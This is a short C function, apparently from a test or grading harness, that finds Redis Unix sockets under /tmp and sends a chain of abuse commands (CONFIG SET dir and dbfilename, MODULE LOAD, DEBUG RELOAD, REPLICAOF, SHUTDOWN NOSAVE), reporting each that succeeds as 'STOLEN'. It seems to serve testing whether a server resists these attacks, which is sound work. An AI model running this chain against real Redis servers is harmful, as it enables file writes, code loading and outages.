/* Attack: has the server read, write and run what it should not. */
/* The tests have others too, that answer anything. */
static int is_redis(redisContext *c) {
    redisReply *r = c && !c->err ? redisCommand(c, "INFO server") : NULL;
    return r && r->str && strstr(r->str, "redis_version");
}

static void attack(void) {
    static const char *const commands[] = {
        "CONFIG SET dir /tmp/grade",
        "CONFIG SET dbfilename x.so",
        "CONFIG SET enable-debug-command yes",
        "MODULE LOAD /tmp/x.so",
        "DEBUG RELOAD",
        "REPLICAOF 127.0.0.1 80",
        "SAVE",
        "BGREWRITEAOF",
        "SHUTDOWN NOSAVE"};
    DIR *all = opendir("/tmp");
    for (struct dirent *e; all && (e = readdir(all)) != NULL;) {
        char path[300];
        snprintf(path, sizeof path, "/tmp/%s/redis.sock", e->d_name);
        redisContext *c = redisConnectUnix(path);
        for (size_t i = 0; is_redis(c) && i < 9; i++) {
            redisReply *r = redisCommand(c, commands[i]);
            if (r && r->type != REDIS_REPLY_ERROR && i < 5) {
                printf("STOLEN %s\n", commands[i]);
            }
        }
    }
    fflush(stdout);
}
